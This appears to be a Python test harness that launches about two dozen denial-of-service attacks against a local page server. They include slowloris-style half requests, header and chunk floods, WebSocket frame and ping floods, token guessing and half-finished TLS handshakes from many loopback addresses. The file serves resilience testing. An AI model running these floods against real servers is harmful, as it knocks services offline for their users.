"""What a stranger may try against a page server, on raw sockets.

`python -m tests.console.attacks NAME PORT TOKEN SECONDS` does one of them.

Runs in a process of its own, so that what it costs to attack does not look like what it costs to be attacked. Whatever
the server does to a socket (closes it, refuses it) is taken as a reason to try again.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from typing import NamedTuple

MASK = b"\0\0\0\0"
"""A mask that changes nothing."""
START = b'{"type":"start","rate":48000,"audio":false}'


class Target(NamedTuple):
    """Whom to attack, and until when."""

    port: int
    token: str
    until: float

    @property
    def host(self) -> bytes:
        return b"127.0.0.1:%d" % self.port

    def connect(self, client: int = 0) -> socket.socket:
        """`client`: number of the address to come from, of ten thousands."""
        source = (f"127.0.{client // 250 + 1}.{client % 250 + 1}", 0) if client else None
        return socket.create_connection(("127.0.0.1", self.port), timeout=2, source_address=source)

    def keep(self, clients: int, said: bytes) -> list[socket.socket]:
        """As many connections as the server bears, from so many addresses in turn, on which this was said."""
        kept: list[socket.socket] = []
        for client in itertools.cycle(range(1, clients + 1)):
            if time.monotonic() >= self.until:
                break
            with contextlib.suppress(OSError):
                opened = self.connect(client)
                opened.settimeout(0.0)  # what the server does not take is not waited for
                kept.append(opened)
                opened.sendall(said)
            if len(kept) > 2_000:
                kept.pop(0).close()
        return kept

    def tries(self) -> Iterator[socket.socket]:
        """Connections, one after the other, until the time is over."""
        while time.monotonic() < self.until:
            with contextlib.suppress(OSError), self.connect() as opened:
                yield opened

    def request(self, *, token: str | None = None, path: bytes = b"/call", more: bytes = b"") -> bytes:
        """The head of a WebSocket's request."""
        query = (self.token if token is None else token).encode()
        return (
            b"GET " + path + b"?token=" + query + b" HTTP/1.1\r\nHost: " + self.host + b"\r\nUpgrade: websocket\r\n"
            b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
            + more
            + b"\r\n"
        )

    def open_call(self, to: socket.socket) -> None:
        to.sendall(self.request())
        while b"\r\n\r\n" not in to.recv(4096):
            pass


def frame(opcode: int, data: bytes = b"", *, last: bool = True) -> bytes:
    """A masked frame of at most 125 bytes."""
    return bytes([(0x80 if last else 0) | opcode, 0x80 | len(data)]) + MASK + data


def flood(to: socket.socket, target: Target, data: bytes) -> None:
    """Send this again and again, and read nothing."""
    while time.monotonic() < target.until:
        to.sendall(data)


def wrong_token_then_frames(target: Target) -> None:
    """Empty frames behind a wrong token."""
    for opened in target.tries():
        opened.sendall(target.request(token="wrong"))
        flood(opened, target, frame(2) * 10_000)


def wrong_tokens(target: Target) -> None:
    """Guesses, as many as there is time for."""
    for opened in target.tries():
        opened.sendall(target.request(token="wrong"))
        opened.recv(4096)


def tiny_frames(target: Target) -> None:
    """Frames without content in a call."""
    for opened in target.tries():
        target.open_call(opened)
        opened.sendall(frame(1, START))
        flood(opened, target, frame(2) * 10_000)


def endless_message(target: Target) -> None:
    """A message whose end never comes, in frames without content."""
    for opened in target.tries():
        target.open_call(opened)
        opened.sendall(frame(1, b"{", last=False))
        flood(opened, target, frame(0, last=False) * 10_000)


def unread_pongs(target: Target) -> None:
    """Pings whose pongs nobody reads."""
    for opened in target.tries():
        target.open_call(opened)
        flood(opened, target, frame(9, bytes(125)) * 1_000)


def half_requests(target: Target) -> None:
    """Many connections with half a request each, kept for as long as the server bears them."""
    kept: list[socket.socket] = []
    while time.monotonic() < target.until:
        with contextlib.suppress(OSError):
            opened = target.connect()
            opened.sendall(b"GET / HTTP/1.1\r\nHost: ")
            kept.append(opened)
        if len(kept) > 400:
            time.sleep(0.1)


def slow_heads(target: Target) -> None:
    """Requests that come a byte at a time."""
    kept: list[socket.socket] = []
    for _ in range(100):
        with contextlib.suppress(OSError):
            kept.append(target.connect())
    while time.monotonic() < target.until:
        for opened in kept:
            with contextlib.suppress(OSError):
                opened.send(b"G")
        time.sleep(0.2)


def tiny_chunks(target: Target) -> None:
    """A body in chunks of one byte, endless."""
    for opened in target.tries():
        opened.sendall(b"POST / HTTP/1.1\r\nHost: " + target.host + b"\r\nTransfer-Encoding: chunked\r\n\r\n")
        flood(opened, target, b"1\r\nx\r\n" * 10_000)


def pipelined(target: Target) -> None:
    """Requests on end, whose answers nobody reads."""
    for opened in target.tries():
        flood(opened, target, b"GET /style.css HTTP/1.1\r\nHost: " + target.host + b"\r\n\r\n")


def huge_heads(target: Target) -> None:
    """A header without end."""
    for opened in target.tries():
        opened.sendall(b"GET / HTTP/1.1\r\nHost: " + target.host + b"\r\nX: ")
        flood(opened, target, b"x" * 65_536)


def many_headers(target: Target) -> None:
    """A WebSocket's request with more headers than a parser takes."""
    for opened in target.tries():
        opened.sendall(target.request(more=b"X: y\r\n" * 200))
        opened.recv(4096)


def nonsense(target: Target) -> None:
    """Bytes that are no request."""
    for opened in target.tries():
        opened.sendall(b"\x16\x03\x01\x02\r\n\r\n")
        opened.recv(4096)


def bad_names(target: Target) -> None:
    """Origins and hosts that cannot be taken apart."""
    for number, opened in enumerate(target.tries()):
        head = target.request(more=b"Origin: http://[\r\n")
        opened.sendall(head if number % 2 else head.replace(target.host, b"[::1"))
        opened.recv(4096)


def silent_sockets(target: Target) -> None:
    """Calls that never begin."""
    kept: list[socket.socket] = []
    while time.monotonic() < target.until:
        with contextlib.suppress(OSError):
            opened = target.connect()
            opened.sendall(target.request())
            kept.append(opened)


def connections(target: Target) -> None:
    """Connections that are closed at once."""
    for _ in target.tries():
        pass


def unread_answers(target: Target) -> None:
    """Requests on end on many connections, from a few addresses, whose answers nobody reads."""
    target.keep(4, (b"GET /style.css HTTP/1.1\r\nHost: " + target.host + b"\r\n\r\n") * 1_000)


def half_requests_of_many(target: Target) -> None:
    """Half a request on each connection, from hundreds of addresses."""
    target.keep(500, b"GET / HTTP/1.1\r\nHost: ")


def wrong_tokens_of_many(target: Target) -> None:
    """A guess on each connection, from hundreds of addresses."""
    target.keep(500, target.request(token="wrong"))


def silent_sockets_of_many(target: Target) -> None:
    """Calls that never begin, from hundreds of addresses."""
    target.keep(500, target.request())


def half_handshakes(target: Target) -> None:
    """TLS that stops in its first message, from one address."""
    target.keep(1, HELLO[:100])


def half_handshakes_of_many(target: Target) -> None:
    """TLS that stops in its first message, from hundreds of addresses."""
    target.keep(500, HELLO[:100])


def unfinished_handshakes_of_many(target: Target) -> None:
    """TLS whose first message is answered, and nothing follows: the server has the work, and waits."""
    target.keep(500, HELLO)


def handshakes_of_many(target: Target) -> None:
    """TLS to its end, and no request, from hundreds of addresses."""
    trusting = ssl._create_unverified_context()
    for client in itertools.cycle(range(1, 500)):
        if time.monotonic() >= target.until:
            break
        with contextlib.suppress(OSError), target.connect(client) as opened:
            trusting.wrap_socket(opened).close()


def hello() -> bytes:
    """The first message of TLS."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        ssl._create_unverified_context().wrap_bio(incoming, outgoing).do_handshake()
    return outgoing.read()


HELLO = hello()
OVER_TLS = ("half_handshakes", "half_handshakes_of_many", "unfinished_handshakes_of_many", "handshakes_of_many")
"""Attacks on a page that is served by TLS."""

ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        wrong_token_then_frames,
        wrong_tokens,
        tiny_frames,
        endless_message,
        unread_pongs,
        half_requests,
        slow_heads,
        tiny_chunks,
        pipelined,
        huge_heads,
        many_headers,
        nonsense,
        bad_names,
        silent_sockets,
        connections,
        unread_answers,
        half_requests_of_many,
        wrong_tokens_of_many,
        silent_sockets_of_many,
        half_handshakes,
        half_handshakes_of_many,
        unfinished_handshakes_of_many,
        handshakes_of_many,
    )
}


if __name__ == "__main__":
    name, port, token, seconds = sys.argv[1:]
    target = Target(int(port), token, time.monotonic() + float(seconds))
    while time.monotonic() < target.until:
        with contextlib.suppress(OSError):
            ATTACKS[name](target)
